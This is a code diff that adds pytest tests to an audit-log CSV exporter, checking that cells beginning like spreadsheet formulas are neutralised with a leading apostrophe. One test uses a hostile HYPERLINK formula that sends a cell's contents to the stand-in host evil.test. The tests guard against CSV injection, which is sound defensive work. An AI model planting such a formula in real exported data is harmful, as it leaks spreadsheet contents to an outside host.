@@ -10,10 +10,10 @@ from datetime import timedelta
 import pytest
 
 from mais_node.audit import balp
-from mais_node.audit.actors import Subject
-from mais_node.audit.export import CSV_COLUMNS, export
+from mais_node.audit.actors import Actor, Subject
+from mais_node.audit.export import CSV_COLUMNS, export, neutralised
 from mais_node.audit.memory import MemoryAuditLog
-from tests.unit.audit.audit_builders import NODE, T0, actor, fill
+from tests.unit.audit.audit_builders import NODE, T0, THREAT, actor, fill
 
 
 @pytest.fixture
@@ -84,3 +84,31 @@ def test_csv_names_the_request_rules_reasons_and_agreement_of_an_enquirys_decisi
 def test_an_unknown_format_is_refused(filled: MemoryAuditLog) -> None:
     with pytest.raises(ValueError, match="xml"):
         export(filled.scan(), None, None, "xml", io.StringIO())  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_beginning_like_a_formula_is_prefixed_so_a_spreadsheet_shows_it_as_text(
+    log: MemoryAuditLog, start: str
+) -> None:
+    """OWASP CSV injection: a hostile reason, organisation or user name reaches the auditor's spreadsheet as text."""
+    formula = f'{start}HYPERLINK("https://evil.test/?"&A1,"open")'
+    hostile = Actor(formula, "client-X", formula, formula, None, (THREAT,))
+    event = balp.review_decision(
+        NODE, T0, hostile, enquiry_id="req-1", item="is-known", outcome="permit", reason=formula
+    )
+    log.append(event)
+    out = io.StringIO()
+    export(log.scan(), None, None, "csv", out)
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    assert row["reason"] == "'" + formula
+    assert row["user"] == "'" + formula
+    assert row["agent_who"].startswith("'" + formula)
+    assert row["seq"] == "1"  # numbers and ordinary text are left as they are
+    assert row["request_id"] == "req-1"
+
+
+def test_neutralised_leaves_text_that_only_holds_a_formula_character_later() -> None:
+    assert neutralised("LA0001 =1+1") == "LA0001 =1+1"
+    assert neutralised("") == ""
+    assert neutralised(-3) == -3
+    assert neutralised("-3") == "'-3"
